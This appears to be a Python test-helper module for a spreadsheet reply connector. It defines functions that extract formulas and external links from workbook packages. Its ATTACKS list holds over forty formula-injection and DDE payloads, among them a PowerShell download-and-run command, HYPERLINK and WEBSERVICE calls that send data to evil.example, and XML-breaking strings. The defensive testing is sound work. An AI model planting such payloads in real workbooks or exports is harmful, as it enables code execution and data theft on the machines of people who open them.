"""What the tests of replies look at: answers made from readings, the parts of a package, and texts that would like to be formulas."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Sequence

from connectors.replies.answer import Answer
from connectors.replies.progress import Progress
from connectors.workbooks.reading import Reading
from expectations.finding import Finding, Severity
from tests.connectors.workbooks.filled import read_one

ATTACKS = (
    "=cmd|' /C calc'!A0", "=CMD|'/c powershell IEX(wget evil.example/x)'!A1", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1,1)", "=1+1", "+1", "-1", "+1-1", "-2+3", "=SUM(A1:A9)", "{=SUM(A1:A9)}",
    '=HYPERLINK("http://evil.example?"&A1,"点此")', '=HYPERLINK("file:///etc/passwd")', "http://evil.example/", "https://evil.example/?q=1",
    "ftp://evil.example/", "mailto:a@evil.example", "internal:Sheet1!A1", "external:c:\\evil.xlsx", "\\\\evil.example\\share\\x.xlsx",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=DDE('cmd','/C calc','A0')", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "='[http://evil.example/b.xlsx]表'!A1", "=[1]表!A1", '=WEBSERVICE("http://evil.example")', '=IMPORTXML(CONCAT("http://evil.example"),"//a")',
    "=INDIRECT(\"A1\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "'=1+1", "=1+1;</t><f>2+2</f><t>", "]]><f>1</f>",
    '"><f>1</f><c r="A1', "&#61;1+1", "_x003D_1+1", "%0A=1+1",
)  # fmt: skip
"""More than forty texts that a spreadsheet program, or a careless writer of XML, would run, call or open."""


def answer_to(data: bytes, *more: Finding, progress: Progress | None = None) -> Answer:
    """The answer to a workbook: what the reader finds in it, and `more`."""
    return answer_of(read_one(data), *more, progress=progress)


def answer_of(reading: Reading, *more: Finding, progress: Progress | None = None) -> Answer:
    return Answer(
        7, "报表.xlsx", "accepted", reading.form_id, reading.unit_id, reading.period, 2, reading.sheet,
        findings=(*reading.findings, *more), progress=progress,
    )  # fmt: skip


def error_at(cell: str, sheet: str | None, value: str = "约20", severity: Severity = Severity.ERROR) -> Finding:
    """A finding about a cell."""
    row = int(re.sub(r"\D", "", cell))
    return Finding("value.not_a_number", severity, 7, sheet, cell, row, None, value, {"reason": "words"})


def parts_of(data: bytes) -> dict[str, bytes]:
    """Every part of a package by its name."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def formulas_in(data: bytes) -> list[bytes]:
    """Every formula element of every part, sorted."""
    return sorted(
        found
        for name, part in parts_of(data).items()
        if name.endswith(".xml")
        for found in re.findall(rb"<(?:\w+:)?f(?:\s[^>]*)?/>|<(?:\w+:)?f(?:\s[^>]*)?>[^<]*</(?:\w+:)?f>", part)
    )


def links_out(data: bytes) -> list[str]:
    """Every relation that leads out of a package, and every part or field that fetches something."""
    return [
        f"{name}: {found.decode()}"
        for name, part in parts_of(data).items()
        for found in re.findall(rb"TargetMode=\"External\"[^>]*|externalLink\d|ddeLink|instrText[^<]*DDE", part)
    ]


def without(parts: dict[str, bytes], names: Sequence[str]) -> dict[str, bytes]:
    return {name: part for name, part in parts.items() if name not in names}
